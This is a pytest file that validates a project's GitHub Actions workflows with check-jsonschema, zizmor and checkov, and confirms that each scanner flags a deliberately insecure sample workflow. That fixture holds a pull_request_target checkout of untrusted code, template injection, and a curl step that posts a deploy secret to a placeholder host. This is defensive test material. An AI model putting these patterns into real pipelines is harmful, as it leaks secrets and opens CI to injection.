"""The workflows pass check-jsonschema, zizmor and checkov, all offline.

Each scanner is also run on a deliberately bad workflow: a scanner that silently scans
nothing (checkov does that on input it cannot parse) would otherwise look like a pass.
"""
import json
import shutil
import subprocess
import sys
import textwrap

import pytest
import yaml
from pipeline_support import WORKFLOWS

from tests.tools import venv_tool

BAD_WORKFLOW = textwrap.dedent("""\
    name: bad
    on: pull_request_target
    jobs:
      build:
        runs-on: ubuntu-latest
        env:
          ACTIONS_ALLOW_UNSECURE_COMMANDS: true
        steps:
          - uses: actions/checkout@v4
            with:
              ref: ${{ github.event.pull_request.head.sha }}
          - run: echo "${{ github.event.pull_request.title }}"
          - run: curl -d "${{ secrets.DEPLOY_KEY }}" https://example.com
""")
# Skips that the workflows carry inline, each with its reason next to it.
EXPECTED_CHECKOV_SKIPS = {"CKV_GHA_5", "CKV_GHA_6", "CKV_GHA_7"}


def workflow_files():
    files = sorted(WORKFLOWS.glob("*.y*ml"))
    assert len(files) == 4
    return files


def run(command, **options):
    return subprocess.run(command, capture_output=True, text=True, timeout=300, **options)


@pytest.fixture
def bad_workflows(tmp_path):
    directory = tmp_path / ".github" / "workflows"
    directory.mkdir(parents=True)
    (directory / "bad.yml").write_text(BAD_WORKFLOW)
    return directory


# --------------------------------------------------------------------------- JSON schema


def check_jsonschema(*paths):
    return run([sys.executable, "-m", "check_jsonschema",
                "--builtin-schema", "vendor.github-workflows", *map(str, paths)])


def test_every_workflow_matches_the_github_workflow_schema():
    pytest.importorskip("check_jsonschema")
    result = check_jsonschema(*workflow_files())

    assert result.returncode == 0, result.stdout + result.stderr
    assert "ok -- validation done" in result.stdout


def test_the_schema_check_rejects_an_invalid_workflow(tmp_path):
    pytest.importorskip("check_jsonschema")
    invalid = tmp_path / "invalid.yml"
    invalid.write_text("on: push\njobs:\n  build:\n    steps: run-this\n")

    result = check_jsonschema(invalid)

    assert result.returncode == 1 and "invalid.yml" in result.stdout


def test_dependabot_config_matches_its_schema_and_covers_the_pinned_actions():
    pytest.importorskip("check_jsonschema")
    config = WORKFLOWS.parent / "dependabot.yml"
    result = run([sys.executable, "-m", "check_jsonschema", "--builtin-schema",
                  "vendor.dependabot", str(config)])

    assert result.returncode == 0, result.stdout + result.stderr
    ecosystems = {u["package-ecosystem"] for u in yaml.safe_load(config.read_text())["updates"]}
    assert "github-actions" in ecosystems


# --------------------------------------------------------------------------- zizmor


def zizmor(*arguments):
    return run([venv_tool("zizmor"), "--offline", "--format", "json", *map(str, arguments)])


@pytest.mark.parametrize("persona", ["regular", "pedantic"])
def test_zizmor_finds_nothing(persona):
    result = zizmor("--persona", persona, WORKFLOWS)

    assert json.loads(result.stdout) == [], result.stdout
    assert result.returncode == 0, result.stderr
    for path in workflow_files():  # every file was audited, none skipped as unparsable
        assert f"completed .github/workflows/{path.name}" in result.stderr \
            or f"completed {path}" in result.stderr, result.stderr


def test_zizmor_flags_a_bad_workflow(bad_workflows):
    result = zizmor(bad_workflows)

    found = {finding["ident"] for finding in json.loads(result.stdout)}
    assert {"dangerous-triggers", "template-injection", "unpinned-uses"} <= found
    assert result.returncode != 0


# --------------------------------------------------------------------------- checkov


def checkov(directory):
    pytest.importorskip("checkov")
    result = run([sys.executable, "-m", "checkov.main", "--directory", str(directory),
                  "--framework", "github_actions", "--output", "json", "--skip-download"])
    assert result.returncode in (0, 1), result.stderr
    report = json.loads(result.stdout)
    return report[0] if isinstance(report, list) else report


@pytest.fixture(scope="module")
def checkov_report(tmp_path_factory):
    # Scan a copy so that checkov walks four files, not the whole repository and its venvs.
    root = tmp_path_factory.mktemp("checkov")
    shutil.copytree(WORKFLOWS, root / ".github" / "workflows")
    return checkov(root)


def test_checkov_fails_no_github_actions_check(checkov_report):
    summary = checkov_report["summary"]
    failed = [(c["check_id"], c["file_path"]) for c in checkov_report["results"]["failed_checks"]]

    assert summary["failed"] == 0, failed
    assert summary["parsing_errors"] == 0
    # Checkov passes silently on files it cannot read: make sure it really checked each one.
    assert summary["passed"] >= 200
    scanned = {check["file_path"].rsplit("/", 1)[-1]
               for check in checkov_report["results"]["passed_checks"]}
    assert scanned == {path.name for path in workflow_files()}


def test_checkov_skips_only_the_documented_checks_with_reasons(checkov_report):
    skipped = checkov_report["results"]["skipped_checks"]

    assert {check["check_id"] for check in skipped} == EXPECTED_CHECKOV_SKIPS
    for check in skipped:
        assert check["file_path"].endswith("deploy.yml")
        assert len(check["check_result"]["suppress_comment"]) > 40, check["check_id"]


def test_checkov_fails_a_bad_workflow(bad_workflows):
    report = checkov(bad_workflows.parent.parent)

    failed = {check["check_id"] for check in report["results"]["failed_checks"]}
    assert {"CKV_GHA_1", "CKV_GHA_2", "CKV_GHA_3"} <= failed
